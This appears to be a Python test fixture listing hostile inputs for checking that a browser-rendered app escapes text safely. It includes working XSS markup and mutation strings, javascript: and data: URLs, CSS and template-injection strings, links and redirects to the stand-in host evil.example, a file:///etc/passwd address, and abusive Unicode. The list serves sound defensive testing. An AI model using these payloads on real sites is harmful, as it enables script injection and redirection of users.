"""Texts that try to become something in a browser: markup, addresses, styles, scripts, letters that misbehave."""

from tests.hostile_titles import HOSTILE

_TOWER = "".join(chr(0x300 + at) for at in range(40))
_RUN = "window.pwned.push('ran')"
MARKUP = [
    f"<script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](https://e.org"onmouseover="alert(1))',
    "[x](vbscript:msgbox(1))",
    "data:text/html,<script>alert(1)</script>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/x.png)",
    "https://evil.example/<script>alert(1)</script>",
    "https://user:pass@evil.example/",
    "https://[::1",
    "https://%zz",
    "file:///etc/passwd",
    "//evil.example/x",
    "<javascript:alert(1)>",
    '<https://evil.example/"onclick=alert(1)>',
]
STYLES = [
    "red;background:url(https://evil.example)",
    "expression(alert(1))",
    "}body{display:none}",
    "url(javascript:alert(1))",
    '#fff"style="position:fixed;inset:0',
    "@import 'https://evil.example/x.css'",
]
SCRIPTS = [
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "`${alert(1)}`",
    "__proto__",
    "constructor",
    "toString",
]
LETTERS = [
    "\u202eevil\u202c",
    "\u2066\u202eright",
    "a\u200fb\u200ec",
    f"za{_TOWER}lgo",
    "\u0000\u0008\u001b",
    "\ufeff\u200b\u200c\u200d",
    "\ud83d half",
    "\U000e0041\U000e0042",
    "﷽" * 40,
    "👩‍👩‍👧‍👦" * 60,
    "𒐫" * 60,
    "W" * 10_000,
    "i" * 10_000,
    "word " * 2_000,
    "\n" * 500,
    "\t" * 500,
    "מלך הגמדים is עברית",
]
#: Everything that is tried in the page: more than 300 texts.
ALL = [*HOSTILE, *MARKUP, *ADDRESSES, *STYLES, *SCRIPTS, *LETTERS]
